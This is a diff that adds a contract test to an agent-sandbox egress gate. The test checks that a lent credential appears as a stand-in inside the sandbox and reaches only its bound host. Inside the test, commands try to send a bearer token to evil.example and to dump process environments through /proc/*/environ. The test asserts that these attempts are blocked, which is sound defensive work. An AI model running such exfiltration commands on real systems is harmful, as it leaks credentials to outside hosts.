@@ -25,7 +25,9 @@ from tests.contract.egress.outside import PUBLIC, Outside
 from tests.contract.egress.through_door import gate
 
 from microclaw.core.home import Home, home_from
+from microclaw.core.sentinels import binding
 from microclaw.core.worker import Setup, Turn, TurnDone, decode_worker_line, encode_line
+from microclaw.egress.dial import World
 from microclaw.egress.gate import Gate
 from microclaw.sandbox.backend import Limits, Mount
 from microclaw.store.migrate import upgrade
@@ -175,3 +177,64 @@ async def test_programs_inside_reach_an_allowed_host_and_are_told_why_not_anothe
         assert set(needed) <= set(tried), tried
         assert {address for address, _ in outside.dialled} == {PUBLIC}
         assert "evil.example" not in outside.resolved
+
+
+@pytest.fixture
+async def api(authority: Authority) -> AsyncIterator[tuple[int, list[bytes]]]:
+    """The port of an HTTPS server that answers with the request it got, and the requests."""
+    seen: list[bytes] = []
+
+    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        head = await reader.readuntil(b"\r\n\r\n")
+        seen.append(head)
+        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(head) + head)
+        await writer.drain()
+        writer.close()
+
+    server = await asyncio.start_server(serve, "127.0.0.1", 0, ssl=authority.server())
+    yield server.sockets[0].getsockname()[1], seen
+    server.close()
+
+
+async def test_ac48_a_lent_credential_is_a_stand_in_inside_and_real_at_its_host_alone(
+    backend, new_spec, folders, home, api, authority,
+):
+    port, seen = api
+    real = "gh-canary-5c1e88aa-real"
+    outside = Outside({"good.example": [PUBLIC], "evil.example": [PUBLIC]}, port)
+    world = World(resolve=outside.resolve, dial=outside.dial, is_own=lambda _: False, tls=authority.client)
+    python = backend.agent_argv()[0]
+    fetch = (
+        "import os, sys, urllib.request as u; "
+        'print(u.urlopen(u.Request(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["MC_SECRET_HUB"]}))'
+        ".read().decode())"
+    )
+    async with (
+        gate(home, backend="local", allow=["good.example", "evil.example"], world=world) as egress,
+        agent(backend, new_spec, folders, egress) as bash,
+    ):
+        assert "MC_SECRET" not in await bash("env")
+        egress.secrets.set("hub", real)
+        egress.bindings.set(binding("hub", ["good.example"], ["home"]))
+        stand_in = (await bash("echo $MC_SECRET_HUB")).strip()
+        assert stand_in.startswith("mc-secret-hub-"), "there from the next program on, in a worker that lives"
+        for address in ("http://good.example/user", "http://127.0.0.1:3128/to/good.example/user"):
+            said = await bash(f"{python} -c '{fetch}' {address}")
+            assert "GET /user HTTP/1.1" in said and "[REDACTED]" in said, said
+        if "curl" in await bash("command -v curl"):
+            said = await bash('curl -sS -u "x:$MC_SECRET_HUB" http://127.0.0.1:3128/to/good.example/curl')
+            assert "GET /curl HTTP/1.1" in said, said
+        if "node" in await bash("command -v node"):
+            # With any version of Node: no proxy is needed for this way.
+            script = "fetch(process.argv[1]).then(r => r.text()).then(console.log)"
+            said = await bash(f'node -e "{script}" http://127.0.0.1:3128/to/good.example/node?k=$MC_SECRET_HUB')
+            assert "GET /node?k=[REDACTED]" in said, said
+        sent = len(seen)
+        assert sent >= 2 and all(real.encode() in head or b"Basic" in head for head in seen)
+        for address in ("http://evil.example/user", "http://127.0.0.1:3128/to/evil.example/user"):
+            said = await bash(f"{python} -c '{fetch}' {address}; env; cat /proc/*/environ /proc/*/cmdline")
+            assert "the credential hub is for good.example:443 only" in said, said
+            assert stand_in in said and real not in said
+        assert len(seen) == sent, "nothing was sent to another host"
+    told = b"".join(path.read_bytes() for path in home.state.rglob("*") if path.is_file() and path.name != "hub")
+    assert real.encode() not in told
